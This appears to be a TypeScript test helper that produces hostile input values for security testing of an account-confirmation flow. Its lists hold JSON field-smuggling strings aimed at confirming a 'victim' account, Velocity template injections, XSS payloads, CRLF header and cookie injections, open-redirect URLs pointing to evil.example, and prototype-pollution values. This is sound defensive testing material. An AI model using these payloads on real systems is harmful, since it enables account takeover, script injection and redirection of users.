import type { Person } from "./scene.ts";

/**
 * What to put where a value is expected: text that means something to JSON, to Velocity, to HTML, to HTTP, to URLs, or to
 * what stores it. Those that speak JSON try to have `victim` confirmed with the right code.
 */
export function hostileValues({ username, code }: Person): readonly string[] {
  return [...json(username, code), ...VELOCITY, ...HTML, ...HTTP, ...urls(username, code), ...TEXT];
}

const json = (username: string, code: string): readonly string[] => [
  `","ConfirmationCode":"${code}`,
  `x","Username":"${username}","ConfirmationCode":"${code}`,
  `x","ClientId":"demo_client","Username":"${username}`,
  `\\","Username":"${username}","x":"`,
  `\\\\","Username":"${username}`,
  `\\'","Username":"${username}`,
  `'","Username":"${username}`,
  `\\u0022,\\u0022Username\\u0022:\\u0022${username}`,
  `"},"httpMethod":"GET","queryStringParameters":{"username":"${username}"`,
  '"},"triggerSource":"CustomMessage_SignUp","headers":{"x":"',
  '{"__proto__":{"confirm":"open"}}',
  "\\",
  "\\\\",
  "'",
  '"',
  "\\/",
];

const VELOCITY: readonly string[] = [
  "$util.escapeJavaScript($input.params('code'))",
  "$input.body",
  "$!{client}",
  "$" + "{dollar}",
  "#set($context.responseOverride.status=200)",
  '#set($context.responseOverride.header.location="https://evil.example/")',
  "#end#if(1==1)",
  "#end",
  "##",
  "#*",
  "*#",
  "#[[x]]#",
  "#foreach($i in [1..1000000])x#end",
  "\\$client \\#end",
];

const HTML: readonly string[] = [
  "</script><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '" formaction="https://evil.example/" x="',
  "</form><form action=https://evil.example/>",
  "</style><base href=//evil.example/>",
  "&lt;b&gt;&quot;><b>",
  "<!--",
  "]]>",
];

const HTTP: readonly string[] = [
  "x\r\nX-Injected: 1",
  "x\nSet-Cookie: __Host-link_page=evil",
  "https://app.example.com/\r\nLocation: https://evil.example/",
  "%0d%0aX-Injected: 1",
  "x\tx",
  "x\u0085X-Injected: 1",
  '__Host-link_page=AAAAAAAAAAAAAAAAAAAAAA; x="',
];

const urls = (username: string, code: string): readonly string[] => [
  `&username=${username}&code=${code}`,
  `;username=${username};code=${code}`,
  `?username=${username}#`,
  "&",
  "=",
  "+",
  "%",
  "%00",
  "%2522",
  "../../confirm/new",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "//evil.example",
  "/\\evil.example",
  "https:evil.example",
  "https://evil.example/",
  "https://app.example.com@evil.example/",
  "https://app.example.com.evil.example/",
  "https://app.example.com\\@evil.example/",
  'https://app.example.com/?link_status=confirmed&a="\'<>#"><script>',
];

const TEXT: readonly string[] = [
  "",
  " ",
  "\0",
  "x\0y",
  "\u2028\u2029",
  "\u202eelpmaxe",
  "\ufeff\u00a0\u200d",
  "\ud800x\udfff",
  "\u{1f468}\u200d\u{1f469}",
  "ｅｖｉｌ．example",
  "__proto__",
  "constructor",
  "null",
  "[object Object]",
  "x".repeat(3000),
  '"'.repeat(1000),
  "\\".repeat(1001),
];

/**
 * Every other value, for one reading of four: each value is met once where what is missing is null, once where it is empty
 * text. What depends on both engines for one value is left to the property.
 */
export function everyOther(values: readonly string[], reading: number): readonly string[] {
  return values.filter((_, i) => (i + reading) % 2 === 0);
}
